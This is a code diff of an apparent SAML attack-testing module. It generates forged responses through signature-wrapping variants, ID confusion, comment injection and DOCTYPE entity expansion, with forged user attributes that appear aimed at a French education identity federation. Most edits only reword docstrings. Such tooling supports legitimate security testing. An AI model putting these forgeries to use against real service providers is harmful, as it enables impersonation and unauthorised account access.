@@ -57,7 +57,7 @@ class Forgery:
     name_id: str = "v.durand42"
     # by FriendlyName; replaces the attribute's values (adds the attribute if absent)
     attributes: Mapping[str, tuple[str, ...]] = field(default_factory=lambda: {
-        "FrEduCtRefId": ("{AAF}CRETEIL|0941234A|6666666",),
+        "FrEduCtRefId": ("{AAF}24|0941234A|6666666",),
         "FrEduCtId": ("f" * 96,),
     })
 
@@ -115,7 +115,7 @@ def xsw4(xml: str, *, forgery: Forgery = FORGERY) -> str:
 
 
 def xsw5(xml: str, *, forgery: Forgery = FORGERY) -> str:
-    """Assertion wrapped: the forged Assertion keeps the Signature under a new ID, an unsigned genuine copy ends the Response."""
+    """Assertion wrapped: the forged Assertion keeps its Signature, new ID; unsigned genuine copy ends the Response."""
     root = _parse(xml)
     evil = _assertion(root)
     genuine = _unsigned_copy(evil)
@@ -126,7 +126,7 @@ def xsw5(xml: str, *, forgery: Forgery = FORGERY) -> str:
 
 
 def xsw6(xml: str, *, forgery: Forgery = FORGERY) -> str:
-    """Assertion wrapped: the forged Assertion keeps the Signature under a new ID, an unsigned genuine copy inside that Signature."""
+    """Assertion wrapped: the forged Assertion keeps its Signature, new ID; unsigned genuine copy in that Signature."""
     root = _parse(xml)
     evil = _assertion(root)
     genuine = _unsigned_copy(evil)
@@ -154,7 +154,7 @@ def xsw7(xml: str, *, forgery: Forgery = FORGERY) -> str:
 
 
 def xsw8(xml: str, *, forgery: Forgery = FORGERY) -> str:
-    """Assertion wrapped: the forged Assertion keeps the Signature and ID, an unsigned genuine copy in a ds:Object of it."""
+    """Assertion wrapped: the forged Assertion keeps Signature and ID; an unsigned genuine copy in a ds:Object of it."""
     root = _parse(xml)
     evil = _assertion(root)
     genuine = _unsigned_copy(evil)
@@ -192,7 +192,7 @@ def comment_in_attribute(xml: str, *, name: str = "FrEduCtRefId", cut: int = -1)
 
 
 def id_confusion(xml: str, *, forgery: Forgery = FORGERY) -> str:
-    """Duplicate IDs: forged Response and Assertion keep the genuine IDs and Signatures, the intact signed Response in their Advice."""
+    """Duplicate IDs: forged Response and Assertion reuse the genuine IDs and Signatures; signed Response in Advice."""
     # Document order: forged Response (ID R), forged Assertion (ID A), genuine Response (R),
     # genuine Assertion (A). A verifier resolving an ID to its last occurrence checks the
     # genuine elements (both signatures hold); the reader takes the forged ones. Schema-valid:
@@ -217,7 +217,7 @@ def id_confusion(xml: str, *, forgery: Forgery = FORGERY) -> str:
 
 
 def doctype(xml: str, *, forgery: Forgery = FORGERY) -> str:
-    """A DOCTYPE whose internal entities expand to the forged NameID and attribute values (an SP must refuse any DTD)."""
+    """A DOCTYPE whose internal entities expand to the forged NameID and attribute values (an SP must refuse DTDs)."""
     root = _parse(xml)
     marks: dict[str, tuple[str, str]] = {}  # placeholder -> (entity name, value)
 
@@ -237,7 +237,8 @@ def doctype(xml: str, *, forgery: Forgery = FORGERY) -> str:
     for placeholder, (entity, value) in marks.items():
         body = body.replace(placeholder, f"&{entity};")
         declarations.append(f'<!ENTITY {entity} "{_entity_literal(value)}">')
-    return f"<!DOCTYPE {root.prefix + ':' if root.prefix else ''}Response [\n" + "\n".join(declarations) + "\n]>\n" + body
+    qname = f"{root.prefix}:Response" if root.prefix else "Response"
+    return f"<!DOCTYPE {qname} [\n" + "\n".join(declarations) + "\n]>\n" + body
 
 
 # -- registry ------------------------------------------------------------------------------
